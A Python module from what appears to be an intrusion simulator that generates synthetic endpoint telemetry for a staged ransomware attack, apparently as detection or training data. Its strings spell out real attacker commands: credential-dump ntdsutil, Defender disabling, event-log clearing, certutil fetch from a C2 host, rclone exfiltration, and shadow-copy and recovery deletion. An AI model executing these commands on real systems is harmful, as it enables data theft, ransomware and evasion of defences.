"""The red-team exercise beyond its beachhead (docs/simulator.md, "The red-team exercise").

Day two, with the administrator's stolen credentials: PsExec to the domain controller (a
``PSEXESVC`` service, a SYSTEM shell) where the operators create a Domain Admin and take an
``ntdsutil`` IFM copy of the directory; ``wmic /node:`` to the file server to allow Remote
Desktop, a WinRM ``Invoke-Command`` there, then an RDP session, in which they add a lookalike
local administrator. Day three: they pack the shares with a password-protected 7-Zip archive and
upload it with rclone to MEGA. Day four, minutes before ``now``: they switch Defender off, clear
the event logs, delete the USN journal, fetch the encryptor with ``certutil -urlcache``, which
stops services and processes, deletes shadow copies and backups, disables recovery, renames the
shares' files to :data:`INTRUSION_RANSOM_EXTENSION` and leaves :data:`INTRUSION_NOTE` in each folder.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from .seed_intrusion_beachhead import SYS32, Beachhead
from .seed_intrusion_kit import (INTRUSION_BACKDOOR_ACCOUNT, INTRUSION_BACKDOOR_LOCAL_ACCOUNT, INTRUSION_C2_DOMAIN,
                                 INTRUSION_C2_IP, INTRUSION_ENCRYPTOR, INTRUSION_EXFIL_DOMAIN, INTRUSION_EXFIL_IP,
                                 INTRUSION_NOTE, INTRUSION_RANSOM_EXTENSION, INTRUSION_TOOL_DIR, SYSTEM, Host, Plan,
                                 Run, Who, tool_hashes)

__all__ = ["SHARES", "write_spread"]

_TOOLS = INTRUSION_TOOL_DIR
_PS = rf"{SYS32}\WindowsPowerShell\v1.0"
_SYSINTERNALS = "Sysinternals - www.sysinternals.com"
_DEFENDER = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender"
#: The file server's shares and a few of the files in each (the encryptor renames them all).
SHARES = {"Finance": ["budget-2026.xlsx", "payroll-q3.xlsx", "invoices-oct.pdf", "forecast.pptx", "audit-notes.docx"],
          "HR": ["salaries.xlsx", "reviews-2025.docx", "contracts.pdf", "onboarding.pptx", "org-chart.pdf"],
          "Legal": ["nda-template.docx", "litigation-hold.pdf", "board-minutes.docx", "ip-register.xlsx"],
          "Projects": ["roadmap.pptx", "apollo-spec.docx", "vendor-quotes.xlsx", "site-photo.jpg", "readme.txt"]}
_LOGS = ["Security", "System", "Application", "Windows PowerShell", "Setup", "Microsoft-Windows-PowerShell/Operational",
         "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-TaskScheduler/Operational",
         "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
         "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
         "Microsoft-Windows-WMI-Activity/Operational", "Microsoft-Windows-Windows Defender/Operational"]
_SERVICES = ["MSSQLSERVER", "SQLSERVERAGENT", "SQLWriter", "MSExchangeIS", "VeeamBackupSvc", "VeeamTransportSvc",
             "BackupExecJobEngine", "wbengine", "vss", "sophos", "DefWatch"]
_PROCESSES = ["sqlservr.exe", "sqlagent.exe", "sqlwriter.exe", "oracle.exe", "ocssd.exe", "dbsnmp.exe",
              "mysqld.exe", "excel.exe", "winword.exe", "outlook.exe", "thunderbird.exe"]
_RECOVERY = ["vssadmin.exe delete shadows /all /quiet", "wmic.exe shadowcopy delete", "wbadmin delete catalog -quiet",
             "bcdedit /set {default} recoveryenabled No", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"]


def write_spread(p: Plan, b: Beachhead) -> None:
    dc_shell = _psexec_to_dc(p, b)
    _domain_persistence(p, dc_shell)
    _ntds(p, dc_shell)
    desktop = _to_file_server(p, b)
    _exfiltration(p, desktop)
    _impact(p, desktop)


def _system(h: Host, at: datetime) -> Run:
    """The kernel's "System" process, which SMB writes from other machines are attributed to."""
    return Run("System", "", "", 4, at - timedelta(days=3), SYSTEM, integrity="System")


def _psexec_to_dc(p: Plan, b: Beachhead) -> Run:
    h, dc, t = p.beachhead, p.dc, p.at("lateral_movement")
    psexec = h.start(b.shell, t, "PsExec.exe", _TOOLS,
                     rf"PsExec.exe \\{dc.short} -accepteula -s c:\windows\system32\cmd.exe", tool=True,
                     company=_SYSINTERNALS)
    h.registry(psexec, t + timedelta(milliseconds=200), rf"HKEY_CURRENT_USER\{p.user.sid}\Software\Sysinternals\PsExec",
               "EulaAccepted", "1", "Dword")
    h.connect(psexec, t + timedelta(seconds=1), dc.ip, 445, public=False)
    dc.accept(_system(dc, t), t + timedelta(seconds=1), h, 445)
    dc.logon(t + timedelta(seconds=1), p.admin, "Network", source=h)
    p.signed_in(t + timedelta(seconds=1), h, dc, p.admin)
    dc.file(_system(dc, t), t + timedelta(seconds=2), "FileCreated", r"C:\Windows\PSEXESVC.exe",
            hashes=tool_hashes("PSEXESVC.exe"), size=383_400, RequestProtocol="Smb", RequestSourceIP=h.ip,
            RequestSourcePort=h.rng.randrange(49152, 65535), RequestAccountName=p.admin.name,
            RequestAccountDomain=p.admin.domain, RequestAccountSid=p.admin.sid, ShareName="ADMIN$")
    services = dc.running("services.exe", SYS32, "services.exe", t - timedelta(days=9))
    dc.event(services, t + timedelta(seconds=3), "ServiceInstalled",
             {"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3, "ServiceType": 16},
             FileName="PSEXESVC.exe", FolderPath=r"C:\Windows\PSEXESVC.exe")
    service = dc.start(services, t + timedelta(seconds=3), "PSEXESVC.exe", r"C:\Windows", r"C:\Windows\PSEXESVC.exe",
                       who=SYSTEM, integrity="System", tool=True, company=_SYSINTERNALS)
    return dc.start(service, t + timedelta(seconds=4), "cmd.exe", SYS32, r'"c:\windows\system32\cmd.exe"')


def _net(h: Host, parent: Run, at: datetime, command: str) -> None:
    net = h.start(parent, at, "net.exe", SYS32, command)
    h.start(net, at + timedelta(milliseconds=150), "net1.exe", SYS32,
            rf"C:\Windows\system32\net1  {command.split(' ', 1)[1]}")


def _domain_persistence(p: Plan, shell: Run) -> None:
    dc, t = p.dc, p.at("domain_persistence")
    account = INTRUSION_BACKDOOR_ACCOUNT
    _net(dc, shell, t, f"net user {account} Sync#2026!rt /add /domain")
    dc.event(shell, t + timedelta(seconds=1), "UserAccountCreated", {}, AccountName=account,
             AccountDomain=p.domain.split(".")[0].upper(),
             AccountSid="S-1-5-21-1004336348-1177238915-682003330-4731")
    _net(dc, shell, t + timedelta(seconds=40), f'net group "Domain Admins" {account} /add /domain')
    p.directory(t + timedelta(seconds=41), p.dc, "Group Membership changed",
                {"TO.GROUP": "Domain Admins", "ACTOR.ACCOUNT": p.admin.name, "TARGET_OBJECT.USER": account,
                 "TARGET_OBJECT.GROUP": "Domain Admins"},
                TargetAccountUpn=f"{account}@{p.domain}", TargetAccountDisplayName=account)


def _ntds(p: Plan, shell: Run) -> None:
    dc, t = p.dc, p.at("ntds")
    dc.start(shell, t, "vssadmin.exe", SYS32, "vssadmin list shadows")
    ntdsutil = dc.start(shell, t + timedelta(minutes=1), "ntdsutil.exe", SYS32,
                        r'ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q')
    for i, path in enumerate((r"C:\ProgramData\ifm\Active Directory\ntds.dit", r"C:\ProgramData\ifm\registry\SYSTEM",
                              r"C:\ProgramData\ifm\registry\SECURITY")):
        dc.file(ntdsutil, t + timedelta(minutes=1, seconds=20 + 5 * i), "FileCreated", path,
                size=(41_943_040, 17_301_504, 65_536)[i])


def _to_file_server(p: Plan, b: Beachhead) -> Run:
    """WMI, WinRM and RDP from the beachhead to the file server; the RDP session's desktop."""
    h, fs, t = p.beachhead, p.fs, p.at("lateral_movement", minutes=20)
    rpc = fs.running("svchost.exe", SYS32, "svchost.exe -k RPCSS -p", t - timedelta(days=9))
    wmi = fs.running("WmiPrvSE.exe", rf"{SYS32}\wbem", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                     t - timedelta(minutes=1), p.admin, integrity="High")
    for i, remote in enumerate((
            r'cmd.exe /c reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections '
            r"/t REG_DWORD /d 0 /f",
            'cmd.exe /c netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP '
            "localport=3389")):
        at = t + timedelta(minutes=i)
        wmic = h.start(b.shell, at, "WMIC.exe", rf"{SYS32}\wbem",
                       f'wmic /node:"{fs.ip}" process call create "{remote}"')
        h.connect(wmic, at + timedelta(milliseconds=300), fs.ip, 135, public=False)
        fs.accept(rpc, at + timedelta(milliseconds=300), h, 135)
        fs.logon(at + timedelta(milliseconds=400), p.admin, "Network", source=h)
        p.signed_in(at + timedelta(milliseconds=400), h, fs, p.admin)
        cmd = fs.start(wmi, at + timedelta(seconds=1), "cmd.exe", SYS32, remote)
        tool, args = remote.split(" ", 3)[2], remote.split(" ", 2)[2]
        run = fs.start(cmd, at + timedelta(seconds=1, milliseconds=200), f"{tool}.exe", SYS32, args)
        if tool == "reg":
            fs.registry(run, at + timedelta(seconds=2),
                        r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Terminal Server", "fDenyTSConnections", "0",
                        "Dword")
    at = t + timedelta(minutes=10)
    script = "Get-SmbShare; Get-ChildItem D:\\Shares -Recurse | Measure-Object -Property Length -Sum"
    ps = h.start(b.implant, at, "powershell.exe", _PS,
                 f'powershell.exe -nop -c "Invoke-Command -ComputerName {fs.short} -ScriptBlock {{ {script} }}"')
    h.connect(ps, at + timedelta(seconds=1), fs.ip, 5985, public=False)
    winrm = fs.running("svchost.exe", SYS32, "svchost.exe -k NetworkService -p -s WinRM", at - timedelta(days=9))
    fs.accept(winrm, at + timedelta(seconds=1), h, 5985)
    fs.logon(at + timedelta(seconds=1), p.admin, "Network", source=h)
    p.signed_in(at + timedelta(seconds=1), h, fs, p.admin)
    dcom = fs.running("svchost.exe", SYS32, "svchost.exe -k DcomLaunch -p", at - timedelta(days=9))
    host = fs.start(dcom, at + timedelta(seconds=2), "wsmprovhost.exe", SYS32,
                    r"C:\Windows\system32\wsmprovhost.exe -Embedding", who=p.admin, integrity="High")
    for i, command in enumerate(("Get-SmbShare", "Get-ChildItem", "Measure-Object")):
        fs.event(host, at + timedelta(seconds=3 + i), "PowerShellCommand", {"Command": command},
                 AccountName=p.admin.name, AccountDomain=p.admin.domain, AccountSid=p.admin.sid)
    at = t + timedelta(minutes=20)
    mstsc = h.start(b.explorer, at, "mstsc.exe", SYS32, rf'"C:\Windows\system32\mstsc.exe" /v:{fs.name}')
    h.connect(mstsc, at + timedelta(seconds=1), fs.ip, 3389, public=False)
    term = fs.running("svchost.exe", SYS32, "svchost.exe -k NetworkService -s TermService", at - timedelta(days=9))
    fs.accept(term, at + timedelta(seconds=1), h, 3389)
    fs.logon(at + timedelta(seconds=20), p.admin, "RemoteInteractive", source=h)
    userinit = fs.running("userinit.exe", SYS32, rf"{SYS32}\userinit.exe", at + timedelta(seconds=22), p.admin,
                          integrity="High", remote=h)
    desktop = fs.start(userinit, at + timedelta(seconds=24), "explorer.exe", r"C:\Windows", r"C:\Windows\Explorer.EXE")
    shell = fs.start(desktop, at + timedelta(minutes=2), "cmd.exe", SYS32, '"C:\\Windows\\system32\\cmd.exe"')
    local = INTRUSION_BACKDOOR_LOCAL_ACCOUNT
    at += timedelta(minutes=3)
    _net(fs, shell, at, f"net user {local} P@ssw0rd!2026 /add")
    fs.event(shell, at + timedelta(seconds=1), "UserAccountCreated", {}, AccountName=local,
             AccountDomain=fs.short.upper(), AccountSid="S-1-5-21-2290317745-3118413352-1412203114-1009")
    _net(fs, shell, at + timedelta(seconds=30), f"net localgroup administrators {local} /add")
    fs.event(shell, at + timedelta(seconds=31), "UserAccountAddedToLocalGroup",
             {"GroupName": "Administrators", "GroupDomainName": "BUILTIN", "GroupSid": "S-1-5-32-544"},
             AccountName=local, AccountDomain=fs.short.upper(),
             AccountSid="S-1-5-21-2290317745-3118413352-1412203114-1009")
    fs.logon(at + timedelta(minutes=12), Who(local, fs.short.upper(), "S-1-5-21-2290317745-3118413352-1412203114-1009"),
             "Network", source=h, protocol="NTLM")
    return desktop


def _exfiltration(p: Plan, desktop: Run) -> None:
    fs, t = p.fs, p.at("staging")
    shell = fs.start(desktop, t, "cmd.exe", SYS32, '"C:\\Windows\\system32\\cmd.exe"')
    archive = rf"{_TOOLS}\shares.7z"
    folders = " ".join(rf"D:\Shares\{share}" for share in SHARES)
    zipper = fs.start(shell, t + timedelta(minutes=1), "7z.exe", _TOOLS,
                      f"7z.exe a -t7z -mx9 -mhe=on -pR3dT3am-2026 {archive} {folders}", tool=True,
                      company="Igor Pavlov")
    fs.file(zipper, t + timedelta(minutes=14), "FileCreated", archive, size=1_873_412_096)
    t = p.at("exfiltration")
    config = fs.start(shell, t, "rclone.exe", _TOOLS, "rclone.exe config create mega mega user "
                      f"ops.{p.domain.split('.')[0]}@proton.example pass *** --obscure", tool=True,
                      company="https://rclone.org")
    fs.file(config, t + timedelta(seconds=1), "FileCreated",
            rf"C:\Users\{p.admin.name}\AppData\Roaming\rclone\rclone.conf", size=214)
    upload = fs.start(shell, t + timedelta(minutes=1), "rclone.exe", _TOOLS,
                      f"rclone.exe copy {archive} mega:exfil -q --ignore-existing --auto-confirm "
                      "--multi-thread-streams 12 --transfers 12", tool=True, company="https://rclone.org")
    for i in range(12):
        fs.connect(upload, t + timedelta(minutes=1, seconds=2 + 40 * i), INTRUSION_EXFIL_IP, 443,
                   INTRUSION_EXFIL_DOMAIN)


def _impact(p: Plan, desktop: Run) -> None:
    fs, t = p.fs, p.at("defense_evasion")
    shell = fs.start(desktop, t, "cmd.exe", SYS32, '"C:\\Windows\\system32\\cmd.exe"')
    defender = fs.running("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0",
                          '"MsMpEng.exe"', t - timedelta(days=9))
    look = fs.start(shell, t + timedelta(seconds=5), "powershell.exe", _PS,
                    'powershell.exe -nop -c "Get-MpPreference | Select-Object DisableRealtimeMonitoring,ExclusionPath"')
    fs.event(look, t + timedelta(seconds=7), "PowerShellCommand", {"Command": "Get-MpPreference"},
             AccountName=p.admin.name, AccountDomain=p.admin.domain, AccountSid=p.admin.sid)
    off = fs.start(shell, t + timedelta(seconds=20), "powershell.exe", _PS,
                   'powershell.exe -nop -c "Set-MpPreference -DisableRealtimeMonitoring $true '
                   '-DisableBehaviorMonitoring $true -DisableIOAVProtection $true"')
    fs.event(off, t + timedelta(seconds=22), "PowerShellCommand", {"Command": "Set-MpPreference"},
             AccountName=p.admin.name, AccountDomain=p.admin.domain, AccountSid=p.admin.sid)
    for i, setting in enumerate(("DisableRealtimeMonitoring", "DisableBehaviorMonitoring", "DisableIOAVProtection")):
        target = rf"{_DEFENDER}\Real-Time Protection\{setting}"
        fs.event(off, t + timedelta(seconds=23 + i), "TamperingAttempt",
                 {"TamperingAction": "RegistryModification", "Status": "Blocked", "Target": target,
                  "OriginalValue": "0", "TamperingAttemptedValue": "1"},
                 RegistryKey=rf"{_DEFENDER}\Real-Time Protection", RegistryValueName=setting, RegistryValueData="1")
    exclude = fs.start(shell, t + timedelta(minutes=1), "powershell.exe", _PS,
                       f'powershell.exe -nop -c "Add-MpPreference -ExclusionPath {_TOOLS} -ExclusionProcess '
                       f'{INTRUSION_ENCRYPTOR} -ExclusionExtension {INTRUSION_RANSOM_EXTENSION}"')
    fs.event(exclude, t + timedelta(minutes=1, seconds=2), "PowerShellCommand", {"Command": "Add-MpPreference"},
             AccountName=p.admin.name, AccountDomain=p.admin.domain, AccountSid=p.admin.sid)
    for kind, value in (("Paths", _TOOLS), ("Processes", INTRUSION_ENCRYPTOR),
                        ("Extensions", INTRUSION_RANSOM_EXTENSION)):
        fs.registry(defender, t + timedelta(minutes=1, seconds=3), rf"{_DEFENDER}\Exclusions\{kind}", value, "0",
                    "Dword")
    start = t + timedelta(minutes=5) - timedelta(seconds=(t + timedelta(minutes=5)).timestamp() % 300)
    for i, log in enumerate(_LOGS):  # one five-minute bin, as a batch loop clears them
        at = start + timedelta(seconds=10 + 8 * i)
        wevtutil = fs.start(shell, at, "wevtutil.exe", SYS32, f'wevtutil cl "{log}"' if " " in log else
                            f"wevtutil cl {log}")
        if log == "Security":
            fs.event(wevtutil, at + timedelta(milliseconds=300), "SecurityLogCleared", {})
    fs.start(shell, start + timedelta(minutes=3), "fsutil.exe", SYS32, "fsutil usn deletejournal /D C:")
    t = p.at("impact")
    encryptor = rf"{_TOOLS}\{INTRUSION_ENCRYPTOR}"
    fetch = fs.start(shell, t, "certutil.exe", SYS32, f"certutil -urlcache -split -f http://{INTRUSION_C2_DOMAIN}/d/"
                     f"{INTRUSION_ENCRYPTOR} {encryptor}")
    fs.connect(fetch, t + timedelta(seconds=1), INTRUSION_C2_IP, 80, INTRUSION_C2_DOMAIN)
    fs.file(fetch, t + timedelta(seconds=2), "FileCreated", encryptor, hashes=tool_hashes(INTRUSION_ENCRYPTOR),
            size=1_402_880, FileOriginUrl=f"http://{INTRUSION_C2_DOMAIN}/d/{INTRUSION_ENCRYPTOR}")
    locker = fs.start(shell, t + timedelta(minutes=1), INTRUSION_ENCRYPTOR, _TOOLS,
                      rf"{encryptor} -path D:\Shares -nolog", tool=True)
    at = t + timedelta(minutes=1, seconds=5)
    for i, service in enumerate(_SERVICES):
        fs.start(locker, at + timedelta(seconds=4 * i), "net.exe", SYS32, f'net.exe stop "{service}" /y')
    for i, process in enumerate(_PROCESSES):
        fs.start(locker, at + timedelta(seconds=50 + 4 * i), "taskkill.exe", SYS32, f"taskkill.exe /IM {process} /F")
    for i, command in enumerate(_RECOVERY):
        cmd = fs.start(locker, at + timedelta(seconds=100 + 5 * i), "cmd.exe", SYS32, f"cmd.exe /c {command}")
        program = command.split()[0].removesuffix(".exe")
        fs.start(cmd, at + timedelta(seconds=100 + 5 * i, milliseconds=200),
                 {"wmic": "WMIC.exe"}.get(program, f"{program}.exe"),
                 rf"{SYS32}\wbem" if program == "wmic" else SYS32, command)
    at = t + timedelta(minutes=3)
    for share, files in SHARES.items():
        folder = rf"D:\Shares\{share}"
        for name in files:
            at += timedelta(milliseconds=fs.rng.randrange(200, 900))
            fs.file(locker, at, "FileRenamed", rf"{folder}\{name}{INTRUSION_RANSOM_EXTENSION}",
                    PreviousFileName=name, PreviousFolderPath=rf"{folder}\{name}")
        fs.file(locker, at + timedelta(milliseconds=100), "FileCreated", rf"{folder}\{INTRUSION_NOTE}",
                hashes=tool_hashes(INTRUSION_NOTE), size=1_874)
    fs.file(locker, at + timedelta(seconds=1), "FileCreated", rf"C:\Users\{p.admin.name}\Desktop\{INTRUSION_NOTE}",
            hashes=tool_hashes(INTRUSION_NOTE), size=1_874)
